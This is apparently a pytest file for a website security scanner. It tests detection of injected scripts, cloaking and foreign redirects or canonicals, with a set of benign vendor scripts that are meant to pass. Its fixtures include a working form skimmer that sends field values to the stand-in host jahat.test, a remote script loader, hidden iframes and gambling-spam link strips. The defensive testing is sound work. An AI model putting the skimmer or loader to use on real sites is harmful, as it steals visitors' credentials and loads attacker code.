"""Scripts that one page hides in an address, that only some get, and that linked pages take; where
a page and those it links to lead: injections and what honest sites have instead."""

from __future__ import annotations

from functools import cache

import pytest

from cyberscan.checks.content import cloaking, foreign_canonical, injected_script
from cyberscan.config.policy import default_policy
from cyberscan.model.facts.content import OwnScript, Visit, Visits
from cyberscan.model.facts.web import Exchange
from cyberscan.model.verdict import Outcome, Verdict
from cyberscan.parse.matter import files as matter_files
from cyberscan.parse.matter import page as matter
from tests.checks.content.reading import NONE, URL, ZONE, b64, linked, material, site

PASSWORD = "<form action=/masuk method=post><input name=n><input type=password name=p></form>"
LOADS = (
    "(function(d){var s=d.createElement('script');s.src='https://jahat.test/a.js?h='+location.host;"
    "d.body.appendChild(s)})(document)"
)

TIMED = LOADS.replace("a.js?h='+location.host", "a.js?t='+Date.now()")


def scripts(source: str, beside: object = NONE, seen: object = NONE) -> Verdict:
    verdict = injected_script.CHECK.judge(material(source), beside, seen, NONE)
    assert isinstance(verdict, Verdict)
    return verdict


def pointers(source: str, *pages: tuple[str, str]) -> Verdict:
    beside = linked(*pages) if pages else NONE
    return foreign_canonical.judge(material(source), beside, default_policy())


def inline(source: str) -> str:
    return f"<script>{source}</script>"


def encoded(source: str) -> str:
    return f'<script defer src="data:text/javascript;base64,{b64(source)}"></script>'


# Most visitors get the ordinary page, time and again.
read = cache(matter.read)


def visits(**bodies: str) -> Visits:
    """What each visitor got: the site with something added."""
    order = ("browser", "again", "referer", "mobile", "bot")
    return Visits(
        visits=tuple(
            Visit(
                profile=profile,
                urls=(URL,),
                exchange=Exchange(url=URL, status=200, headers=()),
                matter=read(site(bodies.get(profile, "")), URL, ZONE),
            )
            for profile in order
        )
    )


@pytest.mark.parametrize(
    ("source", "message"),
    [
        # What defers scripts may find no other; with the time in its address it is none.
        (encoded(LOADS), "look"),
        (encoded(LOADS) + inline("window.a=1"), "look"),
        (encoded(TIMED), "loader"),
        (encoded(TIMED) + inline("window.a=1"), "loader"),
        # What defers scripts writes all of them so, and widgets of known vendors are no strangers.
        (encoded(LOADS) + encoded("jQuery(function(){atob(a)})"), "clean"),
        (encoded(LOADS.replace("jahat.test", "embed.tawk.to")), "clean"),
        (encoded("window.dataLayer=window.dataLayer||[]"), "clean"),
    ],
)
def test_a_script_in_an_address(source: str, message: str) -> None:
    assert scripts(site(source)).message == message


def test_a_script_that_only_visitors_from_a_search_get() -> None:
    # Who marks the words that were sought is served so, too, under a name that stays.
    assert scripts(site(), NONE, visits(referer=inline(LOADS))).message == "look"
    assert scripts(site(), NONE, visits(referer=inline(TIMED))).message == "smuggled"
    stamped = '<script src="https://js.jahat.test/1764121200.js"></script>'
    assert scripts(site(), NONE, visits(referer=stamped)).message == "smuggled"
    named = '<script src="https://js.jahat.test/sorot-kata.js"></script>'
    assert scripts(site(), NONE, visits(referer=named)).message == "look"


@pytest.mark.parametrize(
    "seen",
    [
        # All get it, or it comes and goes; telephones have versions of their own.
        visits(),
        visits(**dict.fromkeys(("browser", "again", "referer", "mobile", "bot"), inline(LOADS))),
        visits(referer=inline(LOADS), again=inline(LOADS)),
        visits(referer=inline(LOADS), bot=inline(LOADS)),
        visits(mobile=inline(LOADS)),
        # Of whom the page shows something else, and who is nobody in particular.
        visits(referer=inline(LOADS), browser="<img src=https://jahat.test/a.png><a href=https://jahat.test>x</a>"),
        visits(referer=inline(LOADS.replace("jahat.test", "www.googletagmanager.com"))),
        visits(referer=inline(LOADS.replace("jahat.test", "contohkab-portal.test"))),
    ],
)  # fmt: skip
def test_scripts_that_come_and_go(seen: Visits) -> None:
    verdict = scripts(site(), NONE, seen)
    assert verdict.outcome is Outcome.PASS, verdict


def test_a_linked_page_s_own_script_is_judged_with_that_page() -> None:
    source = (
        "var s={};function p(e){var t=e.target;s[t.id]=t.value;(new Image()).src='https://jahat.test"
        "/c?v='+b(s)}document.addEventListener('focusout',p,true)"
    )
    url = f"{URL}js/kasir.js"
    inside = matter_files.read(source, url, URL, ZONE)
    exchange = Exchange(url=url, status=200, headers=())
    seen = Visits(
        visits=(), scripts=(OwnScript(exchange=exchange, matter=inside, page=f"{URL}kasir"),)
    )
    assert scripts(site(), linked(("kasir", site(PASSWORD))), seen).message == "skimmer"
    assert scripts(site(), linked(("kasir", site())), seen).outcome is Outcome.PASS


HONEST = {
    "a button that is heard at the root": (
        "document.addEventListener('click',function(e){var b=e.target.closest('[data-buka]');if(b){"
        "window.open('https://layanan.vendor.test/form','_blank')}})"
    ),
    "a widget that waits for the first scroll": (
        "var s=0;function m(){if(s)return;s=1;var e=document.createElement('script');e.src="
        "'https://widget.vendor.test/w.js';document.body.appendChild(e)}addEventListener('scroll',m)"
    ),
    "who does nothing is signed out": (
        "var t;function r(){clearTimeout(t);t=setTimeout(function(){location='https://sso.vendor.test"
        "/keluar'},6e5)}document.addEventListener('mousemove',r)"
    ),
    "a mail address in numbers": (
        "var k=[112,100,108,111],s='';for(var i=0;i<k.length;i++)s+=String.fromCharCode(k[i]-3);"
        "document.getElementById('e').href='mailto:'+s"
    ),
    "settings in base64": (
        f"var c=JSON.parse(atob('{b64(chr(123) + chr(125))}'));fetch(c.api).then(r=>r.json())"
    ),
    "a survey that a button opens": "function buka(){var w=open('https://survei.vendor.test/ikm')}",
    "a worker that searches": "var w=new Worker('/js/cari.js');w.onmessage=function(e){t(e.data)}",
    "a queue over a socket": (
        "var s=new WebSocket('wss://antrean.vendor.test/');s.onmessage=function(m){if(m.type=='job')"
        "t(m.target)};s.onopen=function(){s.send(JSON.stringify({type:'login',nonce:1,submit:1}))}"
    ),
    "a statistic of fields": (
        "document.addEventListener('change',function(e){(new Image()).src='https://stat.vendor.test/"
        "p?f='+e.target.name})"
    ),
    "a name that is looked up while it is typed": (
        "document.addEventListener('input',function(e){if(e.target.name=='n')fetch('/cek?n='+"
        "e.target.value)})"
    ),
    "the whole screen": "document[f]();img.src='data:image/png;base64,'+atob(el.dataset.g)",
}


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_sites_do_instead(name: str) -> None:
    verdict = scripts(site(inline(HONEST[name]) + PASSWORD))
    assert verdict.outcome is Outcome.PASS, verdict


FRAME = '<iframe src="https://k3.bunga.test/s/?u=44" width={0} height={0} style="{1}"></iframe>'
REFRESH = '<meta http-equiv=refresh content="3;url=https://taman.test/?r=9">'
CONTACT = "<h3>Kontak</h3><p>Jalan Melur 5</p>"
LOGIN = "<form action=masuk><input type=password></form>"
VENDOR = "<a href='https://desa.test/'>Portal Desa</a>"
BASE = '<head><base href="{}">'


def based(href: str, body: str = "") -> str:
    return site(body).replace("<head>", BASE.format(href))


@pytest.mark.parametrize(
    ("source", "message"),
    [
        # Frames that nobody is meant to see, and those that a tab or a form opens.
        (site(FRAME.format(1, "visibility:hidden;position:absolute")), "elsewhere"),
        (site(FRAME.format(0, "visibility:hidden")), "elsewhere"),
        (site(FRAME.format(400, "visibility:hidden")), "own"),
        (site(FRAME.format(0, "display:none")), "own"),
        (site('<iframe name=u src="about:blank" width=0 height=0></iframe>'), "own"),
        # A base of another domain: a name says little there, and nothing where passwords go.
        (based(f"https://{ZONE.replace('.', '-')}.layanan.test/"), "elsewhere"),
        (based("https://aset-contohkab.test/m/", LOGIN), "elsewhere"),
        (based("https://contohkab.test/"), "own"),
        (based(f"https://{ZONE}/"), "own"),
        (based("https://statis.desa.test/", VENDOR), "own"),
    ],
)  # fmt: skip
def test_frames_and_bases(source: str, message: str) -> None:
    assert pointers(source).message == message


@pytest.mark.parametrize(
    ("page", "front", "message"),
    [
        (site(top=REFRESH), "", "elsewhere"),
        (based("https://taman.test/"), "", "elsewhere"),
        # The front page says who that is, or the page is nothing but the way there.
        (site(top=REFRESH), "<a href='https://taman.test/'>Taman</a>", "own"),
        (f"<title>Masuk</title>{REFRESH}", "", "own"),
        (site("<link rel=canonical href='https://taman.test/9'>"), "", "own"),
        (site("<p>Kontak</p>"), "", "own"),
    ],
)
def test_where_linked_pages_lead(page: str, front: str, message: str) -> None:
    assert pointers(site(front), ("kontak", page)).message == message


@pytest.mark.parametrize(
    ("headers", "body", "message"),
    [
        ((("Link", '<https://taman.test/id/>; rel="canonical"'),), site(), "elsewhere"),
        ((("Link", f'<{URL}>; rel="canonical"'),), site(), "own"),
        ((), site(top="<link rel=canonical href='https://taman.test/id/'>"), "foreign"),
        ((("Refresh", "3;url=https://taman.test/"),), CONTACT, "elsewhere"),
        ((("Refresh", "0;url=https://taman.test/"),), "<p>Tunggu</p>", "foreign"),
        ((("Refresh", f"300;url={URL}"),), site(), "own"),
    ],
)  # fmt: skip
def test_what_headers_say(headers: tuple[tuple[str, str], ...], body: str, message: str) -> None:
    seen = material(body)
    inside = matter.read(body, URL, ZONE, headers=headers)
    verdict = foreign_canonical.judge(
        type(seen)(exchange=seen.exchange, matter=inside), NONE, default_policy()
    )
    assert verdict.message == message


COVER = (
    "<iframe src='https://taman.test/lp' style='position:fixed;inset:0;width:100%;height:100%'>"
    "</iframe>"
)
STRIP = "".join(
    f"<a href='https://{host}/'>{name}</a> "
    for host, name in (("a.test", "Naga169"), ("b.test", "Koi898"), ("b.test", "Hoki77x"))
)


@pytest.mark.parametrize(
    ("seen", "message"),
    [
        (visits(referer=REFRESH), "elsewhere"),
        (visits(bot=REFRESH), "elsewhere"),
        (visits(referer=COVER), "elsewhere"),
        (visits(mobile=COVER), "elsewhere"),
        (visits(mobile=STRIP), "elsewhere"),
        (visits(bot=STRIP), "elsewhere"),
        # What the site itself serves, and what plays films.
        (visits(referer=f"<meta http-equiv=refresh content='9;url={URL}berita'>"), "same"),
        (visits(mobile=COVER.replace("taman.test", "www.youtube.com")), "same"),
        # Names with a number that are no sites of the trade's, or of one party.
        (visits(mobile=STRIP.replace("b.test", "a.test")), "same"),
        (visits(mobile=STRIP.replace("Hoki77x", "Pengaduan")), "same"),
        (visits(mobile=STRIP.replace("169", " 14").replace("898", " 2025")), "same"),
        (visits(mobile=REFRESH.replace("taman.test/", "warga.onelink.me/")), "same"),
    ],
)  # fmt: skip
def test_what_only_some_visitors_are_led_by(seen: Visits, message: str) -> None:
    found = cloaking.judge(seen, material(site()), NONE, default_policy())
    verdicts = found if isinstance(found, tuple) else (found,)
    assert [verdict.message for verdict in verdicts] == [message], verdicts


@pytest.mark.parametrize("body", [REFRESH, COVER, STRIP])
def test_what_everybody_gets_is_for_other_checks(body: str) -> None:
    seen = visits(**dict.fromkeys(("browser", "again", "referer", "mobile", "bot"), body))
    found = cloaking.judge(seen, material(site(body)), NONE, default_policy())
    assert isinstance(found, Verdict)
    assert found.message == "same"
